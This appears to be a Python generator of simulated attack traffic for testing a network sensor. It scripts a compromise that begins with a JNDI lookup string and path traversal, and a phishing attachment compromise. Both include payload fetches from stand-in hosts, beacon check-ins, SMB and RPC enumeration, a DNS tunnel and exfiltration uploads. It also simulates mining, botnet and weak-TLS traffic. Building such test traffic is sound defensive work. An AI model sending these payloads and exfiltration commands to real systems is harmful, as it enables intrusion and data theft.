"""Connected incidents, each of which runs through several stages of an attack, and habits that ought to be noticed."""

import base64
import random

import world
from background import every
from steps import Step, curl, dns, fetch, mail, nmap, rpc, smb, sweep, talk

VICTIM = "10.10.10.17"  # the workstation that opens the wrong attachment
MINER = "10.10.20.15"
BOT = "192.168.50.14"
BAIT = ("billing@invoice-portal.test", "t.meyer@corp.example")
POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1"


def web_server_taken(rng):
    """A scan, the lookup string, the call back, the stage, a look around inside, the way out."""
    enemy, app = world.STAGE, world.APP
    stage = "${jndi:ldap://198.51.100.66:1389/Loader}"
    steps = [
        Step(180, "out", enemy, nmap(enemy, "-sS", "-T4", "--top-ports", "60", app)),
        Step(232, "out", enemy, curl(*fetch(f"http://{app}/"), agent="Mozilla/5.0 (Nikto/2.5.0)")),
        Step(260, "out", enemy, curl("--path-as-is", *fetch(f"http://{app}/cgi-bin/.%2e/.%2e/.%2e/etc/passwd"))),
        Step(305, "out", enemy, curl("-H", f"X-Api-Version: {stage}", *fetch(f"http://{app}/login")), settle=0.4),
        Step(318, "dmz", app, curl(*fetch("http://cdn-sync.update-check.test:8080/files/run.sh"), agent="curl/7.88.1")),
        Step(420, "dmz", app, nmap(app, "-sS", "-T4", "-p", "22,80,445", "10.10.0.20-44")),
        Step(470, "dmz", app, smb("backup.svc", "ADMIN$", "ls", workstation="APP")),
        Step(540, "dmz", app, smb("backup.svc", "team", "get handbook.pdf /dev/null", workstation="APP")),
        Step(640, "dmz", app, upload("198.51.100.66"), input=random.Random(1).randbytes(90_000)),
    ]
    for number, at in enumerate(range(340, 1780, 60)):
        steps.append(Step(at + rng.uniform(-1.5, 1.5), "dmz", app, check_in("cdn-sync.update-check.test", f"app-{number}")))
    return steps


def check_in(host, name):
    return curl("-d", "s=1", *fetch(f"http://{host}/gate/checkin?id={name}"), agent="Mozilla/4.0 (compatible; MSIE 7.0)")


def upload(address):
    """Sends what comes on standard input."""
    return curl("-H", "Content-Type: application/octet-stream", "--data-binary", "@-", *fetch(f"http://{address}/upload"))


def letter_with_attachment():
    content = base64.encodebytes(b"MZ NetSentinel demo attachment, not a program " * 40).decode().replace("\n", "\r\n")
    return (
        "From: billing@invoice-portal.test\r\nTo: t.meyer@corp.example\r\nSubject: Your invoice 2291\r\nMIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="demo"\r\n\r\n--demo\r\nContent-Type: text/plain\r\n\r\n'
        "Please see http://files.invoice-portal.test/files/invoice_2291.pdf.exe\r\n--demo\r\nContent-Type: application/octet-stream\r\n"
        'Content-Transfer-Encoding: base64\r\nContent-Disposition: attachment; filename="invoice_2291.exe"\r\n\r\n'
        f"{content}\r\n--demo--\r\n"
    ).encode()


def attachment_opened(rng):
    """A letter, a program that looks like a document, check-ins, a look around, a DNS tunnel, an archive sent out."""
    host = VICTIM
    steps = [
        Step(395, "out", world.DOWNLOADS, mail(world.MAIL, "mx.invoice-portal.test", *BAIT), input=letter_with_attachment()),
        Step(520, "lan", host, curl(*fetch("http://files.invoice-portal.test/files/invoice_2291.pdf.exe"), agent=world.AGENTS[0])),
        Step(548, "lan", host, curl(*fetch("http://files.invoice-portal.test/files/update.ps1"), agent=POWERSHELL)),
        Step(880, "lan", host, sweep(host, "10.10.0.10-60")),
        Step(900, "lan", host, nmap(host, "-sS", "-T4", "-p", "445,3389", "10.10.0.10-60")),
        Step(960, "lan", host, smb("t.meyer", "ADMIN$", "ls", password="wrong", workstation="WS-MEYER")),
        Step(985, "lan", host, smb("anna.weber", "ADMIN$", "ls", workstation="WS-MEYER")),
        Step(1010, "lan", host, rpc("anna.weber", "enumdomusers;srvinfo;netshareenum", workstation="WS-MEYER")),
        Step(1340, "lan", host, curl("-T", "-", "ftp://archive:Winter-2026@203.0.113.200/team.zip"), input=b"PK\x03\x04 NetSentinel demo " * 4000),
    ]
    for at in range(580, 1790, 45):
        steps.append(Step(at + rng.uniform(-0.8, 0.8), "lan", host, curl(*fetch("https://gate.quietpond.test/gate/checkin"), "--tls-max", "1.2")))
    for number, at in enumerate((1060, 1120, 1180, 1240, 1420, 1600)):
        steps.append(Step(at, "lan", host, dns("tunnel", "t-relay.test", 20, number, 0.21), stretch=4))
    return steps


def habits(rng, length):
    """What is not an attack by itself but worth a line: mining, old TLS, clear passwords, odd names."""
    mining = ['+{"id":1,"method":"mining.subscribe","params":["demo/1.0"]}', '{"id":2,"method":"mining.authorize","params":["demo","x"]}']
    steps = [Step(at, "lan", MINER, talk("pool.coinworks.test", 3333, *mining)) for at in every(rng, 300, length, 20)]
    steps += [Step(at, "iot", BOT, talk("irc.botnest.test", 6667, "+NICK demo17", "+USER demo 0 * :demo")) for at in every(rng, 400, length, 40)]
    for at in every(rng, 170, length, 30):
        names = ["".join(rng.choices("bcdfghjklmnpqrstvwxz0123456789", k=rng.randint(11, 16))) + ".invalid" for _ in range(4)]
        steps.append(Step(at, "iot", BOT, dns("A", *names)))
    for at in every(rng, 22, length, 8):
        desk = rng.choice(world.DESKS)
        steps.append(Step(at, "lan", desk, rng.choice(oddities(rng))))
    return steps


def oddities(rng):
    return [
        curl("--tls-max", "1.2", *fetch("https://selfsigned.hobby.example/")),
        curl("--tls-max", "1.2", *fetch("https://expired.forgotten.example/")),
        curl("--tlsv1.1", "--tls-max", "1.1", "--ciphers", "DEFAULT:@SECLEVEL=0", *fetch("https://www.banca-verde.example/")),
        curl("-u", "jonas:sommer", *fetch("http://wiki.knowledge.example/article/3.html")),
        curl(*fetch("http://raw.forge.example/files/setup.exe"), agent="Wget/1.21.3"),
        curl(*fetch("http://paste.textbin.example/article/7.html")),
        curl(*fetch("http://radio.ondas.example:8443/index.html")),
        curl(*fetch("http://home-camera.dyn-host.test/")),
        curl(*fetch("http://files.cloudsuite.example/download/report.zip"), agent="curl/7.88.1"),
        ["curl", "-4", "-s", "--max-time", "4", "-u", "archive:Winter-2026", "-o", "/dev/null", "ftp://ftp.corp.example/catalogue.csv"],
        curl("--max-time", "1", *fetch("http://" + rng.choice(world.UNANSWERED) + "/")),
        talk("203.0.113.241", 443, "+hello"),
        talk("192.0.2.10", 80, "+\\x16\\x03\\x01 this is not HTTP"),
    ]


def slow_sensor(work):
    """The DMZ sensor's live process is held for a while: packets are lost, its counters say so, its records pause."""
    pid = f"$(cat {work}/live-dmz.pid)"
    return [Step(at, "out", world.VISITORS[0], ["sh", "-c", f"kill -{signal} {pid}"]) for at, signal in ((1190, "STOP"), (1300, "CONT"))]


def make(rng, work, length):
    return web_server_taken(rng) + attachment_opened(rng) + habits(rng, length) + slow_sensor(work)
